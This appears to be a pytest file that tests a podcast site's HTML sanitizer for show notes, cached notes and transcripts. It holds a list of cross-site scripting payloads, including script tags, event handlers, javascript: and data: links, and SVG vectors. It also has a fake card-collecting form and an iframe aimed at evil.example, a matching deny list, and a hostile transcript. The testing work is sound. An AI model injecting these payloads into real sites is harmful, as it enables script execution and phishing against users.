"""The feed's HTML policy (feed/notes.py): show notes keep what podcast apps render, and nothing a hostile or
careless write-up holds can run in a listener's app, whether rendered now or read from the cache."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from lxml import etree

from helpers import build_show
from podsite.cache import CACHE_DIR
from podsite.cli import main
from podsite.feed.notes import CACHE_FILE, read_notes, sanitize_for_feed
from podsite.feed.writer import render_feed
from podsite.layout import Paths
from podsite.load.catalog import load_catalog
from podsite.urls import SiteUrls

FIRST = "7b0c8a51-1d8e-4a55-9d1e-0d5b1c1f0001"  # the minimal show's episode with a write-up
PAYLOADS = {
    "script": '<script>alert("x")</script>',
    "event handler": '<img src="https://example.com/a.png" onerror="alert(1)" alt="a">',
    "javascript link": '<a href="javascript:alert(1)">tap</a>',
    "data link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">tap</a>',
    "svg": '<svg onload="alert(1)"><script>alert(2)</script></svg>',
    "math": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "style": '<p style="background:url(javascript:alert(1))">styled</p>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "form": '<form action="https://evil.example/"><input name="card"><button>Pay</button></form>',
    "object": '<object data="https://evil.example/x.swf"></object>',
}
FORBIDDEN = ("<script", "alert(", "onerror", "onload", "javascript:", "data:", "<svg", "<math", "style=", "<iframe",
             "<form", "<input", "<button", "<object", "evil.example")


def notes_of(repo: Path) -> str:
    catalog = load_catalog(Paths.at(repo), cache=False)
    feed = etree.fromstring(render_feed(catalog, SiteUrls(catalog.show.site_url)))
    return feed.xpath(f"string(//item[guid='{FIRST}']/*[local-name()='encoded'])")


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_no_payload_in_a_write_up_reaches_the_feed(show_copy, payload: str) -> None:
    repo = show_copy("minimal")
    (repo / "docs/episodes/001-first.md").write_text(f"Before the payload.\n\n{payload}\n\nAfter it.\n",
                                                     encoding="utf-8")
    notes = notes_of(repo)
    assert "Before the payload." in notes and "After it." in notes
    assert not [word for word in FORBIDDEN if word in notes], notes


def test_what_podcast_apps_render_is_kept(show_copy) -> None:
    repo = show_copy("minimal")
    (repo / "docs/episodes/001-first.md").write_text(
        "## Links\n\nA **bold** and *quiet* word, `code`, and [a link](https://example.com/a?b=1&c=2).\n\n"
        "1. first\n2. second\n\n> said once\n\n<!-- a note to myself -->\n", encoding="utf-8")
    notes = notes_of(repo)
    for kept in ("<h2>Links</h2>", "<strong>bold</strong>", "<em>quiet</em>", "<code>code</code>",
                 '<a href="https://example.com/a?b=1&amp;c=2">a link</a>', "<ol>", "<li>second</li>", "<blockquote>"):
        assert kept in notes, (kept, notes)
    assert "a note to myself" not in notes


def test_a_tampered_notes_cache_cannot_put_a_script_in_the_feed(show_copy, tmp_path: Path) -> None:
    repo = show_copy("minimal")
    config, output = str(repo / "mkdocs.yml"), str(tmp_path / "feed.xml")
    assert main(["feed", "-f", config, "-o", output]) == 0
    clean = Path(output).read_bytes()
    cache = repo / CACHE_DIR / CACHE_FILE
    stored = json.loads(cache.read_text(encoding="utf-8"))
    assert stored
    cache.write_text(json.dumps({key: note + "<script>alert(1)</script>" for key, note in stored.items()}),
                     encoding="utf-8")
    assert read_notes(repo / CACHE_DIR).stored == {}  # every entry the policy would change is ignored
    assert main(["feed", "-f", config, "-o", output]) == 0
    assert Path(output).read_bytes() == clean


def test_the_policy_is_stable_on_its_own_output() -> None:
    once = sanitize_for_feed("".join(PAYLOADS.values()) + "<p>text <b>bold</b> <br> <a href='mailto:x@y.z'>m</a></p>")
    assert sanitize_for_feed(once) == once
    assert 'href="mailto:x@y.z"' in once


HOSTILE_TRANSCRIPT = """<!DOCTYPE html><html><head><title>Transcript</title><script>steal()</script></head>
<body onload="steal()"><p><cite>Hana:</cite> <time datetime="00:00:01">0:01</time> Welcome, café.</p>
<iframe src="https://evil.example/"></iframe><p onclick="steal()"><a href="javascript:steal()">more</a></p>
</body></html>
"""


@pytest.mark.parametrize("where", ["docs/transcripts/001.html", "transcripts/001.html"])
def test_an_html_transcript_is_published_through_the_same_policy(show_copy, where: str) -> None:
    repo = show_copy("minimal")
    (repo / where).parent.mkdir(parents=True)
    (repo / where).write_text(HOSTILE_TRANSCRIPT, encoding="utf-8")
    episode = repo / "episodes/001-first.yml"
    episode.write_text(episode.read_text(encoding="utf-8") + f"transcripts:\n  - file: {where}\n    language: en\n",
                       encoding="utf-8")
    site = build_show(repo)
    published = (site / where.removeprefix("docs/")).read_text(encoding="utf-8")
    assert not [word for word in (*FORBIDDEN, "steal", "onclick") if word in published], published
    for kept in ('<meta charset="utf-8">', "<cite>Hana:</cite>", '<time datetime="00:00:01">0:01</time>',
                 "Welcome, café.", "<a>more</a>"):
        assert kept in published, (kept, published)
    feed = etree.parse(str(site / "feed.xml"))
    url = feed.xpath("string(//*[local-name()='transcript'][@type='text/html']/@url)")
    assert url.endswith("/" + where.removeprefix("docs/"))
